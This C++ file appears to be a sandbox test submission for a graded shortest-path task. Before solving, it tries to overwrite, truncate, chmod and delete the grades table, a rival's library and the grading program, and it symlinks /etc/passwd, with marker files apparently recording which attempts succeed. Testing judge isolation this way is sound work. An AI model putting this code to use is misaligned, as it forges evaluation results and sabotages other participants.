// Changes files of the test by every call that can: a rival's library, the table of grades, the program itself.
#include <stdlib.h>
#include <sys/time.h>

#include "attack.h"

static void harm(const char* path) {
  chmod(path, 0777);
  const int file = open(path, O_WRONLY | O_TRUNC);
  if (file >= 0 && write(file, "forged\n", 7) != 7) return;
  if (truncate(path, 0) != 0 && access(path, W_OK) == 0) touch("access");
  utimes(path, nullptr);
  const int readable = open(path, O_RDONLY | O_TRUNC);  // truncates, too
  if (readable >= 0 && fchmod(readable, 0777) != 0) return;
}

void apsp(int n, int* graph) {
  for (const char* name : {"rival.so", "grades.csv", "apsp"}) {
    char path[500];
    snprintf(path, sizeof path, "%s/%s", FOLDER, name);
    harm(path);
  }
  char program[500] = "", entry[100];
  snprintf(entry, sizeof entry, "/proc/%d/exe", getppid());
  if (readlink(entry, program, sizeof program - 1) > 0) harm(program);
  unlink(FOLDER "/grades.csv");
  rename(FOLDER "/rival.so", FOLDER "/renamed.so");
  if (symlink("/etc/passwd", FOLDER "/link.so") == 0) touch("symlink");
  if (mkdir(FOLDER "/folder", 0777) == 0) touch("mkdir");
  touch("new");
  solve(n, graph);
}
